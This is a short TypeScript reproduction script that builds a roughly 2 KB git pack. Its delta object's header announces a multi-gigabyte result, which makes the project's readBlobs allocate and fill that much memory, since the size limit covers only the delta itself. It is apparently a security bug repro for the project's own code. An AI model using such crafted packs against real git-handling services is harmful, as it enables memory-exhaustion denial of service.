// Repro: a pack delta whose header announces a huge result, built from 1-byte copy ops (0x80 = copy
// 64 KiB): a ~2 KB pack object makes readBlobs allocate and fill `target` bytes (MAX_INFLATE is
// checked only for the delta's own inflated size, not for the object it builds).
import * as fs from 'node:fs';
import * as os from 'node:os';
import { join } from 'node:path';
import { openGitObjects } from '../src/workspace/git-objects.js';
import { blobId, deltaVarint, writePack } from '../test/security/git-files.js';
const target = Number(process.argv[2] ?? 3 * 1024 ** 3);
const dir = fs.mkdtempSync(join(os.tmpdir(), 'delta-'));
const base = Buffer.alloc(65536, 'x');
const ops = Math.ceil(target / 65536);
const delta = Buffer.concat([deltaVarint(base.length), deltaVarint(ops * 65536), Buffer.alloc(ops, 0x80)]);
const wanted = 'ab'.repeat(20); // any id: the object is rebuilt before its id is checked
writePack(join(dir, 'objects', 'pack'), 'x', [
  { id: blobId(base), type: 'blob', data: base },
  { id: wanted, type: 'ofs', ofs: 0, data: delta },
]);
console.log('pack bytes', fs.statSync(join(dir, 'objects', 'pack', 'pack-x.pack')).size);
const t0 = Date.now();
const r = openGitObjects(dir).readBlobs([wanted]);
console.log('result', r[0] === undefined ? 'undefined' : r[0].length, Date.now() - t0, 'ms', 'maxRSS MB', Math.round(process.resourceUsage().maxRSS / 1024));
